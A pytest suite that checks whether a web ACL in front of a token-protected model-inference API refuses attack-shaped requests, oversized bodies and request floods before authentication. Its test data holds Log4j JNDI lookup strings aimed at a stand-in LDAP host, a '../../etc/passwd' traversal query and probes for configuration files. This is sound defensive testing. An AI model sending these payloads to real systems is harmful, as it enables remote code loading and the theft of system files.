"""Promise: the web ACL of our own templates refuses before anything else is asked, as on AWS."""

import json
from collections import Counter
from http.client import HTTPConnection
from urllib.parse import urlsplit

import pytest

from infra.constructs.web_acl import LONGEST_PATH_BYTES, PER_ADDRESS
from local_region.gateway.messages import Request

AGENT = {"user-agent": "program/1"}


@pytest.fixture(scope="module")
def region(guarded):
    """A REST API asking for tokens, behind its web ACL."""
    return guarded("enterprise", "jwt")


def sent(region, path="/v2", *, method="GET", headers=AGENT, body=None):
    """Send exactly these headers, and no others of a library's; return status and body."""
    connection = HTTPConnection(urlsplit(region.region.api_url).netloc, timeout=60)
    try:
        connection.putrequest(method, path, skip_accept_encoding=True)
        for name, value in headers.items():
            connection.putheader(name, value)
        connection.endheaders(body)
        answer = connection.getresponse()
        return answer.status, answer.read()
    finally:
        connection.close()


ATTACKS = {
    "nameless": {"headers": {}},
    "scanner": {"headers": {"user-agent": "nessus"}},
    "log4j in a header": {"headers": AGENT | {"x-api-version": "${jndi:ldap://example.com/}"}},
    "log4j in a body": {
        "method": "POST",
        "body": b"${jndi:dns://x}",
        "headers": AGENT | {"content-length": "15"},
    },
    "long path": {"path": "/v2/" + "x" * LONGEST_PATH_BYTES},
    "long query": {"path": "/v2?" + "x" * 5000},
    "another folder": {"path": "/v2?file=../../etc/passwd"},
    "a descriptor": {"path": "/web-inf/web.xml"},
    "a setting": {"path": "/v2/models/churn/app.ini"},
    "webdav": {"method": "PROPFIND"},
}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_what_a_web_acl_refuses_is_403_though_nobody_has_said_who_he_is(region, attack):
    """Before the token is asked for, in the one error body."""
    status, body = sent(region, **attack)

    assert status == 403
    assert json.loads(body).keys() == {"error", "code", "request_id"}
    assert sent(region)[0] == 401


def test_ten_megabytes_are_refused_by_their_stated_length(region):
    """Before API Gateway's own limit, which is larger by half a megabyte."""
    body = bytes(10_000_000)
    headers = AGENT | {"content-length": str(len(body))}

    assert sent(region, "/v2/models/churn/infer", method="POST", headers=headers, body=body)[0] == (
        403
    )


def test_bodies_are_data_and_pass(region, issuer):
    """Rules that read bodies count only: a text may hold anything, and a picture is large."""
    from falaj.domain.clock import SystemClock

    token = issuer.token(clock=SystemClock(), tenant="acme", scopes=["model:churn:invoke"])
    value = "<script> ../../ http://10.1.1.1 " + "x" * 20_000
    given = {"inputs": [{"name": "x", "datatype": "BYTES", "shape": [1], "data": [value]}]}
    body = json.dumps(given).encode()
    headers = AGENT | {"authorization": f"Bearer {token}", "content-length": str(len(body))}

    status, answer = sent(
        region, "/v2/models/churn/infer", method="POST", headers=headers, body=body
    )

    # The model itself says what is wrong: it takes numbers.
    assert (status, json.loads(answer)["code"]) == (400, "datatype_mismatch")


def test_an_address_gets_so_many_requests_in_five_minutes(region):
    """The next is refused; another address is not."""

    async def asked(address, times):
        request = Request(
            method="GET",
            path="/v2",
            query="",
            headers=(("host", "api"), *AGENT.items()),
            body=b"",
            source_ip=address,
        )
        answer = region.region.front_door.answer
        return Counter([(await answer(request)).status for _ in range(times)])

    flood = region.run(asked("192.0.2.1", PER_ADDRESS + 50))

    assert flood == {401: PER_ADDRESS, 403: 50}
    assert region.run(asked("192.0.2.2", 5)) == {401: 5}


def test_before_an_http_api_there_is_no_web_acl(guarded):
    """AWS WAF cannot stand there, so nothing of it is pretended."""
    assert sent(guarded("smb", "jwt"), headers={})[0] == 401
